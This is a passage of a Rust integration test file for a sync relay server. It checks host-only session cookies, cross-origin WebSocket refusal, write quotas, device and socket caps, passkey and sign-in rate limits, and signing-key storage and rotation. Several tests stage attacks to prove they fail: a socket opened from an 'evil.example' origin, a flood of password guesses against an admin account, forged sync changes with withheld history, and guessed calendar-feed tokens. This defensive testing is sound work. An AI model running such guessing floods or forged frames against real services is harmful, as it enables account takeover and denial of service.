}

#[tokio::test]
async fn item9_secure_cookies_are_host_only_and_a_proxy_is_trusted_only_when_named() {
    let relay = TestRelay::start_configured(|config| {
        config.secure_cookies = true;
        config.trusted_proxies = vec!["127.0.0.1".parse().expect("an address")];
    })
    .await;
    let response = post_session(relay.addr(), "hanako@example.com", DEMO_PASSWORD).await;
    let set = response.headers()["set-cookie"]
        .to_str()
        .expect("ASCII")
        .to_owned();
    assert!(set.starts_with("__Host-tsunagu_session="), "{set}");
    assert!(
        set.contains("; Secure") && set.contains("; Path=/"),
        "{set}"
    );
    let value = set.split(';').next().expect("name=value");
    let token = value.split_once('=').expect("a value").1;
    // Under the plain name (as a neighbouring subdomain could set it) it opens nothing.
    let plain = call(
        &relay,
        Method::GET,
        "/api/me",
        Some(&format!("tsunagu_session={token}")),
        None,
    )
    .await;
    assert_eq!(plain.status(), StatusCode::UNAUTHORIZED);
    let ok = call(&relay, Method::GET, "/api/me", Some(value), None).await;
    assert_eq!(ok.status(), StatusCode::OK);

    // Behind the proxy, the browser's page is https://alumni.example.com.
    let socket = |origin: &'static str, forwarded_host: &'static str| {
        use tokio_tungstenite::tungstenite::client::IntoClientRequest;
        let mut request = format!("ws://{}/sync", relay.addr())
            .into_client_request()
            .expect("a request");
        let headers = request.headers_mut();
        headers.insert("cookie", value.parse().expect("a header"));
        headers.insert("origin", origin.parse().expect("a header"));
        headers.insert(
            "x-forwarded-host",
            forwarded_host.parse().expect("a header"),
        );
        tokio_tungstenite::connect_async(request)
    };
    assert!(
        socket("https://alumni.example.com", "alumni.example.com")
            .await
            .is_ok()
    );
    assert!(
        socket("https://evil.example", "alumni.example.com")
            .await
            .is_err()
    );
}

/// Text that does not compress: `n` characters from a fixed seed.
fn noise(seed: u64, n: usize) -> String {
    let mut state = seed | 1;
    (0..n)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            char::from(b'0' + (state % 64) as u8)
        })
        .collect()
}

/// Ken edits his own profile and the relay acknowledges it: honest syncing goes on.
async fn ken_still_syncs(relay: &TestRelay, title: &str) {
    let (cookie, ken) = sign_in(relay.addr(), "ken@example.com").await;
    let mut phone = device_with(relay, &cookie, &[ken.profile_doc]).await;
    let title = title.to_owned();
    phone.edit(ken.profile_doc, move |p| p.title = title).await;
    phone.wait_acknowledged(&ken.relay_storage).await;
}

/// Hanako edits her bio with `size` characters of noise until the relay refuses; the reason.
async fn grow_until_refused(relay: &TestRelay, size: usize) -> String {
    let (cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let (doc, at_relay) = (hanako.profile_doc, hanako.relay_storage.clone());
    let mut phone = device_with(relay, &cookie, &[doc]).await;
    let refused = move |d: &common::Device| {
        d.received.iter().any(|m| {
            matches!(m, tsunagu_core::wire::Message::ChangeRejected { doc: about, .. } if *about == doc)
        })
    };
    for round in 0..64 {
        let bio = noise(round, size);
        phone.edit(doc, move |p| p.bio = bio).await;
        let relay_storage = at_relay.clone();
        phone
            .pump_until("the relay's answer", move |d| {
                refused(d) || d.engine.pending_changes(&relay_storage) == 0
            })
            .await;
        if refused(&phone) {
            return phone.wait_rejected(doc).await;
        }
    }
    panic!("the document grew without end");
}

#[tokio::test]
async fn item7_a_document_stops_growing_at_its_quota_and_others_keep_syncing() {
    let relay = TestRelay::start_configured(|config| {
        config.limits.document_bytes = 96 * 1024;
    })
    .await;
    let reason = grow_until_refused(&relay, 20_000).await;
    assert!(
        reason.starts_with(tsunagu_core::api::DOCUMENT_FULL),
        "{reason}"
    );
    ken_still_syncs(&relay, "営業部長").await;
}

#[tokio::test]
async fn item7_a_member_who_writes_too_fast_is_refused_and_others_keep_syncing() {
    let relay = TestRelay::start_configured(|config| {
        config.limits.member_write_bytes = Rate {
            burst: 60_000,
            per_hour: 0,
        };
    })
    .await;
    let reason = grow_until_refused(&relay, 20_000).await;
    assert!(
        reason.starts_with(tsunagu_core::api::WRITING_TOO_FAST),
        "{reason}"
    );
    ken_still_syncs(&relay, "営業部長").await;
}

#[tokio::test]
async fn item7_sockets_devices_and_passkey_ceremonies_are_capped_per_member_and_address() {
    let relay = TestRelay::start_configured(|config| {
        config.trusted_proxies = vec!["127.0.0.1".parse().expect("an address")];
        config.limits.sockets_per_member = 3;
        config.limits.devices_per_member = 2;
        config.limits.passkey_ceremonies_per_address = 2;
    })
    .await;
    let (cookie, _) = sign_in(relay.addr(), "hanako@example.com").await;
    // Sockets: three stay open, the fourth is refused at the door.
    let mut open = Vec::new();
    for _ in 0..3 {
        open.push(
            common::open_socket(relay.addr(), Some(&cookie))
                .await
                .expect("open"),
        );
    }
    assert!(
        common::open_socket(relay.addr(), Some(&cookie))
            .await
            .is_err()
    );
    drop(open);
    tokio::time::sleep(Duration::from_millis(200)).await;

    // Devices: two storages sync; a third is refused until one is removed.
    let mut kept = Vec::new();
    for storage in ["phone", "laptop"] {
        let (session, _) = sign_in(relay.addr(), "hanako@example.com").await;
        let mut socket = common::joined(&relay, &session, "thief", Some(storage)).await;
        assert!(matches!(
            common::next_message(&mut socket).await,
            Some(tsunagu_core::wire::Message::Peer { .. })
        ));
        kept.push((session, socket));
    }
    let (session, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let mut tablet = common::joined(&relay, &session, "thief", Some("tablet")).await;
    let told = closing_error(&mut tablet).await.expect("refused");
    assert!(told.contains("devices"), "{told}");
    let devices: Vec<tsunagu_core::api::DeviceInfo> =
        common::get_json(&relay, "/api/devices", &session).await;
    assert_eq!(
        devices.len(),
        2,
        "the refused tablet is not recorded: {devices:?}"
    );
    drop(kept);

    // Passkey sign-in ceremonies: two wait per address; another address still starts one.
    let start = |from: &'static str| {
        reqwest::Client::new()
            .post(format!(
                "http://localhost:{}/api/passkeys/sign-in/start",
                relay.addr().port()
            ))
            .header("x-forwarded-for", from)
            .send()
    };
    for _ in 0..2 {
        assert_eq!(
            start("203.0.113.9").await.expect("answered").status(),
            StatusCode::OK
        );
    }
    let third = start("203.0.113.9").await.expect("answered");
    assert_eq!(third.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(
        start("198.51.100.4").await.expect("answered").status(),
        StatusCode::OK
    );
    ken_still_syncs(&relay, "営業部長").await;
}

#[tokio::test]
async fn item7_a_flood_of_sign_ins_waits_its_turn_at_hashing_and_sync_goes_on() {
    let relay = TestRelay::start_configured(|config| {
        config.trusted_proxies = vec!["127.0.0.1".parse().expect("an address")];
        config.limits.password_hashes_at_once = 1;
        config.limits.password_hashing_wait = Duration::from_millis(100);
    })
    .await;
    let (cookie, ken) = sign_in(relay.addr(), "ken@example.com").await;
    let mut phone = device_with(&relay, &cookie, &[ken.profile_doc]).await;
    let flood: Vec<_> = (0..24)
        .map(|i| {
            let url = relay.url("/api/session");
            tokio::spawn(async move {
                reqwest::Client::new()
                    .post(url)
                    .header("x-forwarded-for", format!("198.51.100.{i}"))
                    .json(
                        &json!({ "email": "admin@example.com", "password": format!("guess-{i}") }),
                    )
                    .send()
                    .await
                    .map(|r| r.status())
            })
        })
        .collect();
    phone
        .edit(ken.profile_doc, |p| p.title = "営業部長".into())
        .await;
    phone.wait_acknowledged(&ken.relay_storage).await;
    let mut statuses = Vec::new();
    for attempt in flood {
        statuses.push(attempt.await.expect("joined").expect("answered"));
    }
    assert!(
        statuses
            .iter()
            .all(|s| *s == StatusCode::UNAUTHORIZED || *s == StatusCode::SERVICE_UNAVAILABLE),
        "{statuses:?}"
    );
    assert!(
        statuses.contains(&StatusCode::SERVICE_UNAVAILABLE),
        "some waited too long for a turn: {statuses:?}"
    );
}

#[tokio::test]
async fn item7_changes_whose_history_never_comes_are_dropped_and_the_sender_cut_off() {
    use automerge::sync::{self, MessageVersion};
    use automerge::transaction::Transactable;
    let relay = TestRelay::start_configured(|config| {
        config.limits.queued_change_bytes = 16 * 1024;
    })
    .await;
    let (cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let doc = hanako.profile_doc;
    let mut phone = device_with(&relay, &cookie, &[doc]).await;
    let mut copy = phone.engine.doc(&doc).expect("held").fork();
    copy.set_actor(automerge::ActorId::from(&[6u8; 16][..]));
    let mut tx = copy.transaction();
    tx.put(automerge::ROOT, "title", "withheld").expect("put");
    tx.commit();
    let withheld = copy.get_heads();
    let target = phone
        .received
        .iter()
        .find_map(|m| match m {
            tsunagu_core::wire::Message::Peer { sender, .. } => Some(sender.clone()),
            _ => None,
        })
        .expect("the relay's peer id");
    let me = phone.engine.peer_id().clone();
    let mut closed = false;
    for i in 0..64 {
        let mut tx = copy.transaction();
        tx.put(automerge::ROOT, "bio", noise(i, 2000)).expect("put");
        tx.commit();
        let change = copy.get_changes(&withheld).pop().expect("a change");
        let data = sync::Message {
            heads: copy.get_heads(),
            need: Vec::new(),
            have: Vec::new(),
            changes: vec![change.raw_bytes().to_vec()].into(),
            flags: None,
            version: MessageVersion::V1,
        }
        .encode();
        let frame = tsunagu_core::wire::Message::Sync {
            sender: me.clone(),
            target: target.clone(),
            doc,
            data,
        };
        if futures_util::SinkExt::send(
            &mut phone.socket,
            tokio_tungstenite::tungstenite::Message::Binary(frame.encode().into()),
        )
        .await
        .is_err()
        {
            closed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let told = if closed {
        None
    } else {
        closing_error(&mut phone.socket).await
    };
    assert!(
        closed
            || told
                .as_deref()
                .is_some_and(|t| t.contains("history never arrived")),
        "{told:?}"
    );
    ken_still_syncs(&relay, "営業部長").await;
}

/// What the organisation document says about passes, as a fresh device of `cookie` reads it.
async fn pass_authority(
    relay: &TestRelay,
    cookie: &str,
    me: &Me,
) -> tsunagu_core::pass::PassAuthority {
    let org = me.organisation_doc.expect("the organisation's document");
    tsunagu_core::pass::PassAuthority::read(&relay_copy(relay, cookie, org).await)
}

#[tokio::test]
async fn item8_the_signing_key_lives_in_a_file_of_its_own_never_in_the_database() {
    let relay = TestRelay::start().await;
    let (cookie, me) = sign_in(relay.addr(), "hanako@example.com").await;
    let data = relay.dir.path().join("data");
    let file = data.join("pass-signing.key");
    let text = std::fs::read_to_string(&file).expect("the key file");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file)
            .expect("metadata")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "readable by the relay's user alone");
    }
    let secret = text.trim();
    if common::on_postgres() {
        let values: Vec<String> = sqlx::query_scalar("SELECT value FROM meta")
            .fetch_all(&common::database(&data).await)
            .await
            .expect("a query");
        assert!(
            !values.iter().any(|v| v.contains(secret)),
            "the secret is nowhere in the database"
        );
    } else {
        let database =
            std::fs::read(data.join(tsunagu_server::DATABASE_FILE)).expect("the database");
        assert!(
            !database
                .windows(secret.len())
                .any(|w| w == secret.as_bytes()),
            "the secret is nowhere in the database file"
        );
    }
    let authority = pass_authority(&relay, &cookie, &me).await;
    let key: tsunagu_core::pass::VerifyingKey = me.pass_key.parse().expect("a key");
    assert_eq!(
        authority.keys.get(&key.id()),
        Some(&me.pass_key),
        "listed for every phone"
    );
}

#[tokio::test]
async fn item8_a_key_is_rotated_and_retired_and_passes_follow() {
    use tsunagu_core::pass::{PassBody, read};
    let relay = TestRelay::start().await;
    let (admin_cookie, admin) = sign_in(relay.addr(), ADMIN).await;
    let (cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let passes = hanako.passes_doc.expect("passes");
    let mut phone = device_with(&relay, &cookie, &[passes]).await;
    let old_card = phone.passes(&passes).card;
    let old_key: tsunagu_core::pass::VerifyingKey = hanako.pass_key.parse().expect("a key");
    assert!(
        old_card.starts_with(&format!("TSU2.{}.", old_key.id())),
        "{old_card}"
    );

    // A member may not rotate; an admin may.
    let refused = call(
        &relay,
        Method::POST,
        "/api/admin/pass-keys",
        Some(&cookie),
        None,
    )
    .await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    let rotated: tsunagu_core::api::PassKeyInfo = call(
        &relay,
        Method::POST,
        "/api/admin/pass-keys",
        Some(&admin_cookie),
        None,
    )
    .await
    .json()
    .await
    .expect("the new key");
    assert!(rotated.current);
    assert_ne!(rotated.id, old_key.id());
    // Her card is signed again with the new key and reaches her phone.
    let new_id = rotated.id.clone();
    phone
        .pump_until("a card signed with the new key", move |d| {
            d.passes(&passes)
                .card
                .starts_with(&format!("TSU2.{new_id}."))
        })
        .await;
    let new_card = phone.passes(&passes).card;
    let authority = pass_authority(&relay, &admin_cookie, &admin).await;
    let ring = authority.keyring();
    assert_eq!(
        authority.keys.len(),
        2,
        "both listed until the old one is retired"
    );
    assert!(matches!(read(&old_card, &ring), Ok(PassBody::Card(_))));
    assert!(matches!(read(&new_card, &ring), Ok(PassBody::Card(_))));

    // The current key cannot be retired; the old one can, and its passes stop verifying.
    let current = call(
        &relay,
        Method::DELETE,
        &format!("/api/admin/pass-keys/{}", rotated.id),
        Some(&admin_cookie),
        None,
    )
    .await;
    assert_eq!(current.status(), StatusCode::CONFLICT);
    let retired = call(
        &relay,
        Method::DELETE,
        &format!("/api/admin/pass-keys/{}", old_key.id()),
        Some(&admin_cookie),
        None,
    )
    .await;
    assert_eq!(retired.status(), StatusCode::NO_CONTENT);
    let ring = pass_authority(&relay, &admin_cookie, &admin)
        .await
        .keyring();
    assert_eq!(
        read(&old_card, &ring),
        Err(tsunagu_core::pass::PassError::Forged)
    );
    assert!(matches!(read(&new_card, &ring), Ok(PassBody::Card(_))));
}

#[tokio::test]
async fn item8_a_card_states_the_confirmed_name_and_is_revoked_with_its_member() {
    use tsunagu_core::pass::{CardVerdict, judge_card};
    let relay = TestRelay::start().await;
    let (admin_cookie, admin) = sign_in(relay.addr(), ADMIN).await;
    let (cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
    let passes = hanako.passes_doc.expect("passes");
    let mut phone = device_with(&relay, &cookie, &[hanako.profile_doc, passes]).await;
    // She calls herself the company president in her profile, and a new card is issued.
    phone
        .edit(hanako.profile_doc, |p| {
            p.name = "代表取締役社長 山田".into()
        })
        .await;
    phone.wait_acknowledged(&hanako.relay_storage).await;
    let rotated = call(
        &relay,
        Method::POST,
        "/api/admin/pass-keys",
        Some(&admin_cookie),
        None,
    )
    .await;
    assert_eq!(rotated.status(), StatusCode::OK);
    let key = rotated
        .json::<tsunagu_core::api::PassKeyInfo>()
        .await
        .expect("a key")
        .id;
    phone
        .pump_until("the new card", move |d| {
            d.passes(&passes).card.starts_with(&format!("TSU2.{key}."))
        })
        .await;
    let card = phone.passes(&passes).card;
    let ring = pass_authority(&relay, &admin_cookie, &admin)
        .await
        .keyring();
    let now = common::now();
    let CardVerdict::Valid(valid) = judge_card(&card, &ring, now, &Default::default()) else {
        panic!("her card verifies");
    };
    assert_eq!(
        valid.name, "山田 花子",
        "the name her account was made with, not the profile's"
    );

    // Suspended: the organisation document revokes her cards, and a gate offline says so.
    let suspended = call(
        &relay,
        Method::POST,
        &format!("/api/admin/members/{}/suspend", hanako.user_id),
        Some(&admin_cookie),
        None,
    )
    .await;
    assert_eq!(suspended.status(), StatusCode::NO_CONTENT);
    let authority = pass_authority(&relay, &admin_cookie, &admin).await;
    assert!(authority.revoked_cards.contains_key(&hanako.user_id));
    assert!(matches!(
        judge_card(&card, &authority.keyring(), now, &authority.revoked_cards),
        CardVerdict::Revoked(_)
    ));
}

#[tokio::test]
async fn item8_a_key_an_earlier_version_kept_in_the_database_moves_to_the_file() {
    let TestRelay { server, dir } = TestRelay::start().await;
    let (_, me) = sign_in(server.local_addr(), "hanako@example.com").await;
    server.stop().await;
    let data = dir.path().join("data");
    let file = data.join("pass-signing.key");
    let secret = std::fs::read_to_string(&file).expect("the key file");
    std::fs::remove_file(&file).expect("removed");
    let db = common::database(&data).await;
    sqlx::query("INSERT INTO meta (key, value) VALUES ('pass_signing_key', $1)")
        .bind(secret.trim())
        .execute(&db)
        .await
        .expect("as an earlier version kept it");
    db.close().await;

    let server = common::start_again(&dir).await;
    let (_, again) = sign_in(server.local_addr(), "hanako@example.com").await;
    assert_eq!(again.pass_key, me.pass_key, "the same key signs");
    assert_eq!(
        std::fs::read_to_string(&file)
            .expect("the file again")
            .trim(),
        secret.trim()
    );
    let db = common::database(&data).await;
    let left: Option<String> =
        sqlx::query_scalar("SELECT value FROM meta WHERE key = 'pass_signing_key'")
            .fetch_optional(&db)
            .await
            .expect("a query");
    assert_eq!(left, None, "gone from the database");
}

#[tokio::test]
async fn item7_guessing_calendar_feed_tokens_spends_the_address_budget_but_live_feeds_poll_freely()
{
    let relay = TestRelay::start_configured(|config| {
        config.limits.unauthenticated_per_address = Rate {
            burst: 4,
            per_hour: 0,
        };
    })
    .await;
    // Signing in spends one call of the budget.
    let (cookie, _) = sign_in(relay.addr(), "hanako@example.com").await;
    let feed: tsunagu_core::api::CalendarFeed = call(
        &relay,
        Method::POST,
        "/api/me/calendar",
        Some(&cookie),
        None,
    )
    .await
    .json()
    .await
    .expect("a feed");
    let path = feed
        .url
        .split_once("/ics/")
        .map(|(_, t)| format!("/ics/{t}"))
        .expect("a feed path");
    for _ in 0..3 {
        let guess = call(&relay, Method::GET, "/ics/not-a-token.ics", None, None).await;
        assert_eq!(guess.status(), StatusCode::NOT_FOUND);
    }
    let throttled = call(&relay, Method::GET, "/ics/another-guess.ics", None, None).await;
    assert_eq!(throttled.status(), StatusCode::TOO_MANY_REQUESTS);
    for _ in 0..5 {
        let poll = call(&relay, Method::GET, &path, None, None).await;
        assert_eq!(
            poll.status(),
            StatusCode::OK,
            "a live feed keeps answering its calendar"
        );
    }
}
